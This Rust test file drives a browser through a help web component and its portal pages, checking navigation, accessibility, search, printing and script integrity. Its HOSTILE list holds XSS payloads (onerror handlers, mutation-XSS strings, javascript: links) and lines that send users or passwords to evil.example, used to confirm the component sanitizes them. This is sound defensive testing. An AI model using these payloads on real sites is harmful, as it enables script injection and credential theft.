//! The help as members come to it (the reference, part 2): in a portal that draws it, in a portal with the web component,
//! and on the provider's own pages.

use serde_json::json;

use crate::gallery;
use crate::journey::Portal;
use crate::support::browser::{Browser, Options, Page};
use crate::support::{Engine, TestApp};

/// Something inside the component, which keeps to itself.
struct Component<'a> {
    page: &'a Page,
}

impl Component<'_> {
    /// The value of an expression in which `root` is the component's inside, as soon as there is one.
    async fn look(&self, expression: &str) -> serde_json::Value {
        let script = format!(
            "new Promise((found, missing) => {{
                const until = Date.now() + 15000;
                const look = () => {{
                    const root = document.querySelector('sekisho-help')?.shadowRoot;
                    const value = root && ({expression});
                    if (value) found(value);
                    else if (Date.now() > until) missing(new Error(root?.textContent ?? 'no component'));
                    else setTimeout(look, 20);
                }};
                look();
            }})"
        );
        self.page.evaluate(&script).await
    }

    /// Waits for it, then clicks its middle.
    async fn click(&self, element: &str) {
        let middle = self
            .look(&format!(
                "(element => {{
                    if (!element?.checkVisibility()) return null;
                    element.scrollIntoView({{ block: 'center', behavior: 'instant' }});
                    const box = element.getBoundingClientRect();
                    return [box.x + box.width / 2, box.y + box.height / 2];
                }})({element})"
            ))
            .await;
        for (kind, buttons) in [("mouseMoved", 0), ("mousePressed", 1), ("mouseReleased", 0)] {
            let button = if kind == "mouseMoved" { "none" } else { "left" };
            let event = json!({ "type": kind, "x": middle[0], "y": middle[1], "button": button, "buttons": buttons,
                                "clickCount": 1 });
            self.page.command("Input.dispatchMouseEvent", event).await;
        }
    }

    /// The button with these words.
    async fn press(&self, words: &str) {
        self.click(&format!("[...root.querySelectorAll('button')].find(b => b.innerText.includes({}))", json!(words)))
            .await;
    }

    /// Waits until this is what is shown.
    async fn shows(&self, title: &str) {
        self.look(&format!("root.getElementById('title')?.innerText.includes({})", json!(title))).await;
    }

    async fn says(&self, words: &str) {
        self.look(&format!("root.getElementById('content')?.innerText.includes({})", json!(words))).await;
    }

    async fn search(&self, words: &str) {
        self.click("root.getElementById('query')").await;
        self.page
            .evaluate("document.querySelector('sekisho-help').shadowRoot.getElementById('query').value = ''")
            .await;
        self.page.command("Input.insertText", json!({ "text": words })).await;
        self.page.press("Enter").await;
    }

    /// The id of what has the focus inside.
    async fn focus_is(&self, id: &str) {
        self.look(&format!("root.activeElement?.id === {}", json!(id))).await;
    }
}

/// A portal's page with the component, under the strictest policy for scripts, styles and trusted types.
async fn component_page(locale: &'static str, size: Options) -> (TestApp, Portal, Browser, Page) {
    let app = TestApp::start(Engine::Sqlite).await;
    let portal = Portal::start(&app).await;
    let browser = Browser::launch(Options { locale, ..size }).await;
    let page = browser.page().await;
    page.before_each_page("window.violations = []; document.addEventListener('securitypolicyviolation', (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))").await;
    page.goto(&format!("{}/component", portal.url)).await;
    (app, portal, browser, page)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_a_portal_that_draws_the_help_itself_the_menu_leads_to_the_guide_and_the_questions() {
    let app = TestApp::start(Engine::Sqlite).await;
    let portal = Portal::start(&app).await;
    let browser = Browser::launch(Options { javascript: false, ..Options::PHONE }).await;
    let page = browser.page().await;
    page.goto(&portal.url).await;
    page.click("#menu summary").await;
    assert!(page.text("#menu nav").await.contains("ヘルプ・サポート"));
    page.click("#menu-guide").await;
    assert_eq!(page.text("h1").await, "ご利用案内");
    let guide = page.text("main").await;
    assert!(guide.contains("主な機能のご紹介") && guide.contains("推奨OSおよびブラウザ"), "{guide}");
    page.click("#menu summary").await;
    page.click("#menu-faq").await;
    assert_eq!(page.text("h1").await, "よくある質問");
    page.click(".category:has(#otp-incorrect) > summary").await;
    page.click("#otp-incorrect > summary").await;
    assert!(page.text("#otp-incorrect").await.contains("30秒"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_component_goes_from_the_menu_to_category_question_and_answer_under_a_strict_policy() {
    for (locale, size, words) in [
        (
            "ja",
            Options::PHONE,
            [
                "よくある質問",
                "パスワードとロック",
                "ロックされ",
                "お問い合わせフォーム",
                "ご利用案内",
                "推奨OSおよびブラウザ",
            ],
        ),
        (
            "en",
            Options::DESKTOP,
            ["Frequently asked questions", "Passwords", "locked", "inquiry form", "Service guide", "browsers"],
        ),
    ] {
        let [faq, category, question, answer, guide, section] = words;
        let (app, _portal, _browser, page) = component_page(locale, size).await;
        let component = Component { page: &page };
        component.click("root.getElementById('menu-button')").await;
        component.click("root.getElementById('show-faq')").await;
        component.shows(faq).await;
        component.press(category).await;
        component.shows(category).await;
        component.press(question).await;
        component.says(answer).await;
        let links =
            component.look("[...root.querySelectorAll('.body a')].map(a => `${a.href} ${a.rel} ${a.target}`)").await;
        assert!(links.to_string().contains("https://inquiry.example.jp/form noopener noreferrer _blank"), "{links}");
        component.click("root.getElementById('back')").await;
        component.shows(category).await;
        page.press("Escape").await;
        component.look("!root.getElementById('dialog').open").await;
        component.focus_is("menu-button").await;
        component.click("root.getElementById('menu-button')").await;
        component.click("root.getElementById('show-guide')").await;
        component.shows(guide).await;
        component.says(section).await;
        assert_eq!(page.evaluate("window.violations").await, json!([]), "{}", app.issuer);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_component_works_by_the_keyboard_alone_and_tells_a_screen_reader_what_it_is() {
    let (_app, _portal, _browser, page) = component_page("ja", Options::DESKTOP).await;
    let component = Component { page: &page };
    component.look("root.getElementById('menu-button')").await;
    page.evaluate("document.querySelector('.language').focus()").await;
    page.press("Tab").await;
    component.focus_is("menu-button").await;
    page.press("Enter").await;
    component.look("root.getElementById('menu-button').ariaExpanded === 'true'").await;
    page.press("Escape").await;
    component.look("root.getElementById('menu-button').ariaExpanded === 'false'").await;
    component.focus_is("menu-button").await;
    page.press("Enter").await;
    page.press("Tab").await;
    component.focus_is("show-guide").await;
    page.press("Tab").await;
    page.press("Enter").await;
    component.shows("よくある質問").await;
    component.focus_is("title").await;
    let tree = page.command("Accessibility.getFullAXTree", json!({})).await;
    let named = |role: &str, name: &str| {
        tree["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|node| node["role"]["value"] == role && node["name"]["value"] == name)
    };
    assert!(named("dialog", "よくある質問"));
    assert!(named("search", ""));
    assert!(named("searchbox", "質問を探す"));
    assert!(named("button", "閉じる"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_component_searches_and_opens_a_question_by_the_address() {
    let (_app, portal, _browser, page) = component_page("ja", Options::PHONE).await;
    let component = Component { page: &page };
    page.click("#deep-link").await;
    component.says("お問い合わせフォーム").await;
    component.look("root.querySelector('.vote')").await;
    component.press("はい").await;
    component.says("ありがとうございました。").await;
    component.click("root.getElementById('close')").await;
    component.look("location.hash === ''").await;

    component.click("root.getElementById('menu-button')").await;
    component.click("root.getElementById('show-faq')").await;
    component.shows("よくある質問").await;
    component.search("スマホ").await;
    component.says("スマートフォン").await;
    component.look("root.querySelector('mark')").await;
    component.search("ﾜﾝﾀｲﾑﾊﾟｽﾜｰﾄﾞ").await;
    component.says("ワンタイムパスワード").await;
    component.search("zzzzzzzzzz").await;
    component.says("見つかりませんでした").await;
    // A whole address, as in a mail of the portal's.
    page.goto(&format!("{}/?", portal.url)).await;
    page.goto(&format!("{}/component#sekisho-help/faq/otp-incorrect", portal.url)).await;
    component.says("30秒").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_the_page_put_inside_stays_where_the_component_cannot_run() {
    let (app, portal, browser, page) = component_page("ja", Options::PHONE).await;
    Component { page: &page }.look("root.querySelector('slot').hidden").await;
    assert!(!page.shows("#help > a").await);
    let without_scripts = Browser::launch(Options { javascript: false, ..Options::PHONE }).await;
    let plain = without_scripts.page().await;
    plain.goto(&format!("{}/component", portal.url)).await;
    plain.click("#help > a").await;
    assert_eq!(plain.url().await, app.at("/help"));
    // The provider is away: the script is still in the browser's cache, its words are not to be had.
    let away = browser.page().await;
    away.command("Network.enable", json!({})).await;
    away.command("Network.setBlockedURLs", json!({ "urls": ["*/help/v1/*"] })).await;
    away.goto(&format!("{}/component", portal.url)).await;
    away.wait_for("sekisho-help").await;
    assert!(away.shows("#help > a").await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_script_than_the_one_that_the_portal_names_is_not_run() {
    let (app, portal, browser, _page) = component_page("ja", Options::PHONE).await;
    let http = reqwest::Client::new();
    let script = http.get(app.at("/help/component/1.0.0/sekisho-help.js")).send().await.unwrap();
    assert_eq!(script.headers()["access-control-allow-origin"], "*");
    assert!(script.headers()["cache-control"].to_str().unwrap().contains("immutable"));
    let told: serde_json::Value =
        http.get(app.at("/help/v1/component?locale=en")).send().await.unwrap().json().await.unwrap();
    assert_eq!(told["script"]["url"], app.at("/help/component/1.0.0/sekisho-help.js"));
    assert_eq!(told["words"]["help"], "Help and support");
    let page = http.get(format!("{}/component", portal.url)).send().await.unwrap().text().await.unwrap();
    assert!(page.contains(told["script"]["integrity"].as_str().unwrap()), "the portal names the present digest");

    // A page that names another digest stands for a script that was changed on the way.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let other = format!("http://localhost:{}", listener.local_addr().unwrap().port());
    let script = app.at("/help/component/1.0.0/sekisho-help.js");
    let html = |digest: &str| {
        format!(
            "<!doctype html><script src={script:?} integrity=\"{digest}\" crossorigin=anonymous></script><p id=end>"
        )
    };
    let pages = [html(told["script"]["integrity"].as_str().unwrap()), html(&format!("sha384-{}", "A".repeat(64)))];
    let [right, wrong] = pages.map(axum::response::Html);
    let router = axum::Router::new()
        .route("/right", axum::routing::get(async || right))
        .route("/wrong", axum::routing::get(async || wrong));
    tokio::spawn(async move { axum::serve(listener, router).await });
    let page = browser.page().await;
    for (path, runs) in [("right", true), ("wrong", false)] {
        page.goto(&format!("{other}/{path}")).await;
        page.wait_for("#end").await;
        assert_eq!(page.evaluate("Boolean(customElements.get('sekisho-help'))").await, runs, "{path}");
    }
}

/// What a portal shows, by day and by night, in both languages: its own pages, and each of the component's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_portals_help_is_for_everyone() {
    for locale in ["ja", "en"] {
        let (_app, portal, browser, _page) = component_page(locale, Options::PHONE).await;
        let page = browser.page().await;
        page.before_each_page(gallery::axe()).await;
        let look = async |what: &str| {
            for scheme in ["light", "dark"] {
                gallery::prefers(&page, scheme, "none").await;
                let rules = if scheme == "light" { gallery::RULES } else { gallery::RULES_OF_COLOUR };
                let found = gallery::axe_run(&page, rules).await;
                assert!(found.is_empty(), "{what} in {locale}, {scheme}: {found:#?}");
            }
        };
        for path in ["", "/faq", "/guide"] {
            page.goto(&format!("{}{path}", portal.url)).await;
            page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true").await;
            look(path).await;
        }
        page.goto(&format!("{}/component", portal.url)).await;
        let component = Component { page: &page };
        component.click("root.getElementById('menu-button')").await;
        look("the menu").await;
        for (view, shown) in [
            ("faq", "root.getElementById('query')"),
            ("faq/passkey-qr-not-read", "root.querySelector('table')"),
            ("guide", "root.querySelector('.body img')"),
        ] {
            page.evaluate(&format!("document.querySelector('sekisho-help').show('{view}')")).await;
            component.look(&format!("Boolean({shown})")).await;
            look(view).await;
        }
        page.evaluate("document.querySelector('sekisho-help').show('faq')").await;
        component.search(if locale == "ja" { "スマホ" } else { "phone" }).await;
        component.look("Boolean(root.querySelector('mark'))").await;
        look("the search").await;
    }
}

/// The provider's own pages, for whoever comes without a portal or without scripts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_providers_pages_are_searched_and_linked_without_scripts() {
    let app = TestApp::start(Engine::Sqlite).await;
    let browser = Browser::launch(Options { javascript: false, ..Options::PHONE }).await;
    let page = browser.page().await;
    for (words, found) in [
        ("スマホ", "スマートフォン"),
        ("すまほ", "スマートフォン"),
        ("ﾊﾟｽﾜｰﾄﾞ", "パスワード"),
        ("ＱＲコード", "QRコード"),
        ("authentcator", "Authenticator"),
    ] {
        page.goto(&app.at("/help")).await;
        page.fill("#q", words).await;
        page.press("Enter").await;
        assert!(page.url().await.starts_with(&app.at("/help/search?")), "{}", page.url().await);
        let main = page.text("main").await;
        assert!(main.contains(found), "{words}: {main}");
        assert!(page.exists("mark").await, "{words}");
    }
    page.goto(&app.at("/help/search?q=otp")).await;
    page.goto(&app.at("/help/faq#otp-incorrect")).await;
    page.click("#otp-incorrect > summary").await;
    assert!(page.text("#otp-incorrect .answer").await.contains("30秒"));
    page.click("#otp-incorrect .own-page a").await;
    assert_eq!(page.url().await, app.at("/help/faq/otp-incorrect"));
    assert!(page.text("h1").await.contains("ワンタイムパスワードが正しくありません"));
}

/// On paper there is nothing to press: answers stand open, and what only works on a screen is left out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn printed_the_questions_have_their_answers_and_nothing_to_press() {
    let (app, _portal, browser, portals) = component_page("ja", Options::DESKTOP).await;
    let page = browser.page().await;
    for path in ["/help/faq", "/help/faq/otp-incorrect", "/help/guide"] {
        page.goto(&app.at(path)).await;
        assert!(page.shows("#q").await || !page.exists("#q").await);
        page.command("Emulation.setEmulatedMedia", json!({ "media": "print" })).await;
        let hidden = page
            .evaluate("[...document.querySelectorAll('.answer, h1')].filter(e => !e.checkVisibility({ contentVisibilityAuto: true }) || e.getBoundingClientRect().height === 0).map(e => e.textContent.slice(0, 40))")
            .await;
        assert_eq!(hidden, json!([]), "{path}");
        let pressed = page
            .evaluate("[...document.querySelectorAll('button, input:not([type=hidden])')].filter(e => e.checkVisibility()).map(e => e.outerHTML)")
            .await;
        assert_eq!(pressed, json!([]), "{path}");
        let paper = page.command("Page.printToPDF", json!({ "paperWidth": 8.27, "paperHeight": 11.69 })).await;
        assert!(paper["data"].as_str().unwrap().len() > 10_000, "{path}");
        page.command("Emulation.setEmulatedMedia", json!({ "media": "" })).await;
    }
    let component = Component { page: &portals };
    portals.click("#deep-link").await;
    component.says("お問い合わせフォーム").await;
    portals.command("Emulation.setEmulatedMedia", json!({ "media": "print" })).await;
    for (part, printed) in [("root.querySelector('.body')", true), ("root.getElementById('close')", false)] {
        assert_eq!(component.look(&format!("[{part}.checkVisibility()]")).await, json!([printed]), "{part}");
    }
}

/// What a provider that was broken into might answer. The page has no policy of its own, so that whatever got in would run.
const HOSTILE: [&str; 16] = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
    "<svg><style><img src=x onerror='window.ran = 1'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<a href='javascript:window.ran = 1'>press</a>",
    "<a href='java\tscript:window.ran = 1'>press</a>",
    "<a href='data:text/html,<script>opener.ran = 1</script>'>press</a>",
    "<p style='position:fixed;inset:0' onclick='window.ran = 1'>over everything</p>",
    "<details open ontoggle='window.ran = 1'>x</details>",
    "<form action='https://evil.example/'><button>log in</button><input name=password></form>",
    "<template><img src=x onerror='window.ran = 1'></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
    "<img src='https://evil.example/beacon.png' alt='beacon'>",
    "<base href='https://evil.example/'><link rel=stylesheet href=/x><meta http-equiv=refresh content='0;url=https://evil.example/'>",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_an_answer_gets_past_the_component() {
    let words = TestApp::start(Engine::Sqlite).await;
    let words: serde_json::Value =
        reqwest::get(words.at("/help/v1/component?locale=ja")).await.unwrap().json().await.unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://localhost:{}", listener.local_addr().unwrap().port());
    let html = format!("<p>kept words</p>{}", HOSTILE.concat());
    let named = json!({ "id": "x", "title": HOSTILE.concat(), "language": "ja" });
    let question = json!({ "id": "x", "title": HOSTILE.concat(), "language": "ja", "answer": { "html": html }, "related": [named] });
    // One by one, so that none hides in another.
    let hit = |html: &str| json!({ "id": "x", "title_html": html, "language": "ja", "snippet": { "html": html } });
    let hits: Vec<_> = HOSTILE.into_iter().chain(["<p>kept words</p>"]).map(hit).collect();
    let found = json!({ "guide": [], "hits": hits });
    const SCRIPT: &str = include_str!("../../templates/help_component/sekisho-help-1.0.0.js");
    const PAGE: &str =
        "<!doctype html><html lang=ja><title>portal</title><script defer src=/sekisho-help.js></script><sekisho-help>";
    let answer = |value: serde_json::Value| axum::routing::get(async move || axum::Json(value));
    let router = axum::Router::new()
        .route("/", axum::routing::get(async || axum::response::Html(PAGE)))
        .route("/sekisho-help.js", axum::routing::get(async || ([("content-type", "text/javascript")], SCRIPT)))
        .route("/help/v1/component", answer(words))
        .route("/help/v1/questions/x", answer(question))
        .route("/help/v1/search", answer(found))
        .route("/help/v1/categories", answer(json!({ "categories": [named] })));
    tokio::spawn(async move { axum::serve(listener, router).await });

    let browser = Browser::launch(Options::DESKTOP).await;
    let page = browser.page().await;
    page.goto(&url).await;
    let component = Component { page: &page };
    component.look("root.getElementById('menu-button')").await;
    page.evaluate("document.querySelector('sekisho-help').show('faq/x')").await;
    let harmless = async || {
        let left = component
            .look(
                "[[...root.getElementById('content').querySelectorAll('*')].filter(e =>
                    !/^(a|blockquote|br|button|code|div|em|h3|h4|h5|h6|hr|img|input|label|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul|form)$/.test(e.localName)
                    || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')
                    || (e.href && !/^(https?|mailto):/.test(e.href)) || (e.src && new URL(e.src).origin !== location.origin)
                    || e.name === 'password').map(e => e.outerHTML)]",
            )
            .await;
        assert_eq!(left, json!([[]]));
        assert_eq!(page.evaluate("window.ran ?? null").await, json!(null));
        assert_eq!(page.url().await.trim_end_matches('/'), url);
    };
    component.says("kept words").await;
    harmless().await;
    let links = "[...root.querySelectorAll('.body a')].forEach(a => a.click()) ?? true";
    component.look(links).await;
    harmless().await;
    page.evaluate("document.querySelector('sekisho-help').show('faq')").await;
    component.search("x").await;
    component.says("kept words").await;
    harmless().await;
}
